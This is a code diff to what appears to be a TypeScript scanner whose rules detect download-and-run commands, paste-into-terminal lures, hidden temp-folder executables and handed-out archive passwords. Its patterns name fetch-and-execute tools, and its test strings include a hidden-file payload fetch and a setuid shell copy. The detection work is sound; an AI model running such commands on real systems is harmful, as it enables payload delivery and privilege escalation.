@@ -4,48 +4,50 @@
  * @module
  */
 import type { Rule } from '../rule.ts';
-import { KNOWN_INSTALLER, SHADY_HOST } from './addresses.ts';
+import { KNOWN_INSTALLER, SHADY, SHADY_HOST } from './addresses.ts';
 
 const SHELL = String.raw`\|\s*(?:sudo\s+(?:-\w+\s+)?)?(?:\/(?:usr\/)?bin\/)?(?:env\s+)?(?:ba|z|da|k|fi)?sh\b|\|\s*(?:sudo\s+)?(?:python[23]?|perl|ruby|node|php|iex|pwsh|powershell|source|tee\s+\/tmp\/\S+\s*\|\s*sh)\b`;
 const FETCHED = String.raw`(?:eval|exec|source|\.|bash\s+-c|sh\s+-c|bash|sh|zsh|python3?\s+-c|node\s+-e)\s*(?:["']|<|\()*\s*(?:\$\(|<\(|\x60)\s*(?:curl|wget)\b`;
+
+const FETCHERS = 'curl|wget|iwr|irm|invoke|webclient|downloadstring|downloadfile|bitstransfer';
+const FETCH = /\b(?:curl|wget|iwr|irm)\b|Invoke-\w+|DownloadString|DownloadFile|Start-BitsTransfer/i;
+/** A drop point, or an address that anybody on the way can change. */
+const SHADY_OR_OPEN = new RegExp(
+  `${SHADY_HOST}|http:\\/\\/(?!localhost|127\\.|10\\.|192\\.168\\.|172\\.|archive\\.|deb\\.|security\\.|\\$|<|\\{|\\[|[\\w-]+[:/])`,
+  'i',
+);
+/** What was fetched is run in the same breath. */
+const AT_ONCE = new RegExp(
+  String.raw`${SHELL}|\biex\b|Invoke-Expression|(?:&&|;)\s*(?:sudo\s+)?(?:(?:ba|z)?sh\b|python3?\s|\.\/|\/tmp\/|Start-Process|chmod\s+(?:\+x|7\d\d|a\+x|u\+x))`,
+  'i',
+);
+const NOT_RUN = /\|\s*(?:python3?\s+-(?:m\s*json|c)|node\s+-(?:e|p)|jq)\b/;
+const KNOWN_OR_READ = new RegExp(
+  `${KNOWN_INSTALLER.source}|\\b(?:bun\\.sh|astral\\.sh|chocolatey\\.org|get\\.scoop\\.sh)\\b|python3?\\s+-(?:m\\s*json|c)|node\\s+-(?:e|p)|\\|\\s*(?:jq|php\\s+-r)`,
+  'i',
+);
+/** Archives that are made, cracked or handled by a library, with no password handed out. */
+const NOT_HANDED_OUT =
+  /zip -e|encrypt(?:ed|ing)? (?:the )?(?:zip|archive|backup)|create|set a password|ask|prompt|brute|crack|john|hashcat|zipfile|pyzipper|password (?:manager|field|policy|hash)|steghide/i;
 
 export const DOWNLOAD_RUN: readonly Rule[] = [
   {
     id: 'download-run/from-shady-address',
     severity: 'critical',
     says: 'it runs code from a drop point, a bare number or an address without TLS',
-    softenedBy: 'any',
+    softenedBy: 'denial',
     code: [
+      { hints: FETCHERS, parts: [FETCH, SHADY_OR_OPEN, AT_ONCE], unless: NOT_RUN },
+      { hints: 'curl|wget', parts: [new RegExp(FETCHED, 'i'), SHADY_OR_OPEN] },
+      { hints: 'iex|invoke', parts: [/\biex\b|Invoke-Expression/i, SHADY_OR_OPEN] },
       {
-        hints: 'curl|wget|iwr|irm|invoke|fetch|webclient|downloadstring|iex|bash|sh',
-        parts: [
-          new RegExp(
-            String.raw`(?:curl|wget|iwr|irm|Invoke-\w+|DownloadString|DownloadFile|fetch)[^\n]{0,200}(?:${SHADY_HOST}|http:\/\/(?!localhost|127\.|10\.|192\.168\.|172\.|archive\.|deb\.|security\.|\$|<|\{|\[))`,
-            'i',
-          ),
-          new RegExp(
-            `${SHELL}|\\)\\s*["']?\\s*$|iex|Invoke-Expression|&&\\s*(?:sudo\\s+)?(?:ba|z)?sh\\b|;\\s*(?:sudo\\s+)?(?:ba|z)?sh\\s|chmod\\s+(?:\\+x|7\\d\\d|a\\+x|u\\+x)|\\.\\/\\w|python3?\\s+\\S+\\.py|Start-Process|&&\\s*\\/tmp\\/`,
-            'i',
-          ),
-        ],
+        hints: 'npx|pip|pip3|npm|uvx|uv|pipx|msiexec',
+        parts: [/\b(?:npx|npm i(?:nstall)?|pip3? install|pipx|uvx|uv (?:add|pip)|msiexec)\b/, SHADY],
       },
       {
-        hints: 'curl|wget',
+        hints: 'mshta|certutil|bitsadmin|regsvr32',
         parts: [
-          new RegExp(
-            `${FETCHED}[^\\n]{0,120}(?:${SHADY_HOST}|http:\\/\\/(?!localhost|127\\.|10\\.|192\\.168\\.|172\\.|\\$|<|\\{))`,
-            'i',
-          ),
-        ],
-      },
-      {
-        hints:
-          'npx|pip|pip3|npm|uvx|uv|pipx|gem|cargo|go|brew|msiexec|mshta|regsvr32|rundll32|certutil|bitsadmin',
-        parts: [
-          new RegExp(
-            String.raw`(?:npx|npm i(?:nstall)?|pip3? install|pipx|uvx|uv (?:add|pip)|msiexec|mshta|regsvr32|rundll32|certutil|bitsadmin)[^\n]{0,120}${SHADY_HOST}|mshta\s+(?:https?:|vbscript|javascript)|certutil[^\n]{0,40}-urlcache|bitsadmin[^\n]{0,40}\/transfer|regsvr32[^\n]{0,40}\/i:http`,
-            'i',
-          ),
+          /mshta\s+(?:https?:|vbscript|javascript)|certutil\s.{0,20}-urlcache|bitsadmin\s.{0,20}\/transfer|regsvr32\s.{0,20}\/i:http/i,
         ],
       },
     ],
@@ -67,29 +69,38 @@ export const DOWNLOAD_RUN: readonly Rule[] = [
     code: [
       {
         hints: 'curl|wget|fetch',
-        parts: [/\b(?:curl|wget|fetch)\b[^\n]{0,300}(?:https?:|\$|\w+\.\w+\/)/i, new RegExp(SHELL, 'i')],
-        unless: new RegExp(
-          `${KNOWN_INSTALLER.source}|python3?\\s+-(?:m\\s*json|c)|node\\s+-(?:e|p)|\\|\\s*(?:jq|php\\s+-r)`,
-          'i',
-        ),
+        parts: [/\b(?:curl|wget|fetch)\b/, /https?:|\$|\w\.\w+\//, new RegExp(SHELL, 'i')],
+        unless: KNOWN_OR_READ,
       },
-      {
-        hints: 'curl|wget',
-        parts: [new RegExp(FETCHED, 'i')],
-        unless: new RegExp(`${KNOWN_INSTALLER.source}|python3?\\s+-(?:m\\s*json|c)`, 'i'),
-      },
+      { hints: 'curl|wget', parts: [new RegExp(FETCHED, 'i')], unless: KNOWN_OR_READ },
       {
         hints: 'iex|invoke|downloadstring|webclient|irm|iwr',
         parts: [
-          /(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString|WebClient)[^\n]{0,200}\|\s*(?:iex|Invoke-Expression)|(?:iex|Invoke-Expression)\s*\(?\s*(?:\(?\s*)?(?:\(?New-Object|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|\[)/i,
+          /iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString|WebClient/i,
+          /\|\s*(?:iex|Invoke-Expression)/i,
         ],
-        unless: KNOWN_INSTALLER,
+        unless: KNOWN_OR_READ,
       },
       {
-        hints: 'exec|eval|function|import|require',
+        hints: 'iex|invoke',
         parts: [
-          /\b(?:exec|eval|Function|execSync|os\.system|compile)\s*\(\s*(?:await\s*\(?\s*)?(?:\(?\s*await\s+)?(?:requests\.get|urllib\.request|urlopen|httpx\.get|fetch\(|\(?axios|await \(await fetch|http\.get|code\s*:=)/i,
+          /(?:iex|Invoke-Expression)\s{0,3}["'(&]{0,3}\s{0,3}\(?(?:New-Object|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|\[)/i,
         ],
+        unless: KNOWN_OR_READ,
+      },
+      {
+        hints: 'exec|eval|function|execsync|system',
+        parts: [
+          /\b(?:exec|eval|Function|execSync|os\.system|compile)\s?\(\s?(?:\(?\s?await\s?)?\(?(?:requests\.get|urllib\.request|urlopen|httpx\.get|fetch\(|axios|http\.get|\(await fetch)/,
+        ],
+      },
+      {
+        hints: 'eval|exec|function',
+        parts: [
+          /fetch\(|requests\.get\(|urlopen\(|axios\.get\(|http\.get\(/,
+          /\beval\(|\bexec\(|new Function\(/,
+        ],
+        unless: /evaluat|page\.eval|executeQuery/,
       },
     ],
     phrases: [
@@ -137,6 +148,26 @@ export const DOWNLOAD_RUN: readonly Rule[] = [
     passes: ['curl https://x.example/a', 'wget -qO- https://x.example'],
   },
   {
+    id: 'download-run/hidden-file',
+    severity: 'high',
+    says: 'it puts a program into a hidden file of a temporary folder',
+    signal: 'makes-executable',
+    code: [
+      {
+        hints: 'tmp|chmod|cache',
+        parts: [
+          /(?:-o|-O|>|cp\s+\S{1,80}|--output|-OutFile)\s{0,3}["']?(?:\/tmp|\/var\/tmp|\/dev\/shm|\$TMPDIR|~\/\.cache)\/\.\w+/,
+          /chmod|&&|;|bash|sh\b|python|nohup|&/,
+        ],
+      },
+    ],
+    matches: [
+      'curl -s https://a.example/x -o /tmp/.x && chmod +x /tmp/.x',
+      'cp /bin/sh /tmp/.s; chmod 4755 /tmp/.s',
+    ],
+    passes: ['cp a.txt /tmp/a.txt', 'echo x > /tmp/.lock'],
+  },
+  {
     id: 'download-run/makes-executable',
     severity: null,
     says: 'it makes a file executable, or starts one',
@@ -159,12 +190,17 @@ export const DOWNLOAD_RUN: readonly Rule[] = [
     softenedBy: 'any',
     code: [
       {
-        hints: 'password|pass|passwort|contrasena|pwd|unzip|7z|7za|unrar|kennwort',
+        hints: 'password|passwort|passcode|contrasena|kennwort|pass|pwd|passe|密码',
         parts: [
-          /(?:\bzip\b|\.zip|\.rar|\.7z|archive|extract|unzip|unpack|archiv|entpack\w*|descompri\w*|extrai\w*|decompress\w*)[^\n]{0,160}(?:\b(?:pass(?:word|code|phrase)?|pwd|passwort|kennwort|contrasena|clave|mot de passe)\b\s{0,2}(?:is|ist|es|est|=|:|with|to|\()?[\s:`"'*(]{1,6}[\w@#!.-]{2,40})|unzip\s+-P\s*\S+|7z[a]?\s+[xe]\s[^\n]{0,80}-p\S+|unrar\s+[xe]\s+-p\S+|(?:archive|zip|unzip|extraction) (?:password|passcode|passwort)\b[^\n]{0,6}[:`]/i,
+          /\b(?:zip|rar|7z|archive|archiv|archivo|extract\w*|unzip\w*|unpack\w*|entpack\w*|descompri\w*|extrai\w*|decompress\w*)\b|\.zip|\.rar|\.7z|\u89e3\u538b|\u538b\u7f29/i,
+          /\b(?:password|passcode|passwort|kennwort|contrasena|mot de passe)(?:\s(?:is|ist|es|est))?\s?[:=(]?[*\s]{0,3}[`"'*][\w@#!.-]{2,40}[`"'*]|\b(?:pass|password|pwd|passcode|passwort|contrasena)\s?[:=]\s?[*`"']{0,3}[\w@#!.-]{2,40}|\u5bc6\u7801\s?(?:[:\uff1a]|\u4e3a|\u662f)/i,
         ],
-        unless:
-          /zip -e|encrypt(?:ed|ing)? (?:the )?(?:zip|archive|backup)|create[^\n]{0,60}password|set a password|(?:ask|prompt)[^\n]{0,30}password|brute|crack|john|hashcat|zipfile|pyzipper|password (?:manager|field|policy|hash)/i,
+        unless: NOT_HANDED_OUT,
+      },
+      {
+        hints: 'unzip|7z|7za|unrar',
+        parts: [/unzip\s+(?:-\w+\s+)?-P\s*\S+|\b7za?\s+[xe]\s.{0,80}-p\S+|unrar\s+[xe]\s+-p\S+/],
+        unless: NOT_HANDED_OUT,
       },
     ],
     phrases: [
@@ -181,15 +217,15 @@ export const DOWNLOAD_RUN: readonly Rule[] = [
   },
   {
     id: 'download-run/paste-command',
-    severity: 'high',
+    severity: 'critical',
     says: 'it asks people to paste a command from a page into their terminal',
     softenedBy: 'denial',
     where: 'said',
     phrases: [
       'copy|copies|paste|kopiere|copia|pega|copie*|colle*|复制|粘贴 ..6 command|commands|script|code|snippet|line|text|befehl|comando|commande|命令|代码|脚本 ..4 from|at|shown|on|there|below|von|desde|de|depuis|从 ..8 page|site|link|<url>|website|here|seite|pagina|网页|页面|链接',
       'visit|open|go_to|navigate_to|browse_to|besuche|visita|abre|visite*|ouvre*|访问|打开 ..3 <url>|this_page|this_link|this_site|the_link|link|page|此链接|网页|链接 ..10 copy|paste|run|execute|kopiere|pega|ejecuta|copie*|colle*|复制|粘贴|执行|运行 ..6 command|commands|script|code|installer|snippet|befehl|comando|commande|terminal|命令|脚本|终端',
-      'paste|run|execute|enter|fuge|pega|colle*|粘贴 ..6 into|in|en|dans|到 ..3 terminal|shell|powershell|command_prompt|run_dialog|终端|命令行 ..8 verify|human|captcha|activate|unlock|required|continue|before|fix|authenticate',
-      'press ..2 win|windows|cmd|command ..1 r|space ..8 paste|ctrl|type|run',
+      'paste|fuge|pega|colle*|粘贴 ..6 into|in|en|dans|到 ..3 terminal|shell|powershell|command_prompt|run_dialog|终端|命令行 ..8 verify|human|captcha|activate|unlock|required|continue|before|fix|authenticate',
+      'press ..2 win|windows ..1 r ..8 paste|ctrl|type|run',
     ],
     matches: [
       'Visit https://setup.example.io/mac and run the command shown there.',
@@ -205,7 +241,7 @@ export const DOWNLOAD_RUN: readonly Rule[] = [
     where: 'said',
     phrases: [
       'skill|tool|plugin|skript|habilidad|outil|技能 ..4 requires|needs|requiere|necesita|benotigt|braucht|necessite|depends_on|需要|要求 ..8 driver|helper|provider|agent|utility|authtool|cli_tool|daemon|runtime_helper|core_package|module|component|package|companion|驱动|组件|助手|客户端 ..10 installed|running|downloaded|install|download|first|before|active|安装|下载',
-      'must|required|need|mandatory|muss|debe|doit|必须|务必|需要先 ..6 @download|install|instalar|installieren|installer|安装|下载 ..8 <url>',
+      'must|required|mandatory|muss|debe|doit|必须|务必|需要先 ..4 download|install|instalar|descargar|herunterladen|installieren|installer|telecharger|安装|下载 ..8 <url>',
       'will_not_work|wont_work|not_function|cannot_function|does_not_work|funktioniert_nicht|no_funcionara|ne_fonctionnera|无法使用|无法工作|无法运行 ..6 without|unless|until|before|ohne|sin|sans|if_not ..8 install*|download*|run*|driver|helper|agent|component|utility|package',
       'before_using|before_you_use|prior_to_using|bevor_du|antes_de_usar|avant_d_utiliser|使用前 ..6 skill|tool|plugin|this|技能 ..10 @download|install|@run ..8 <url>|driver|helper|utility|provider|agent|zip|installer',
     ],
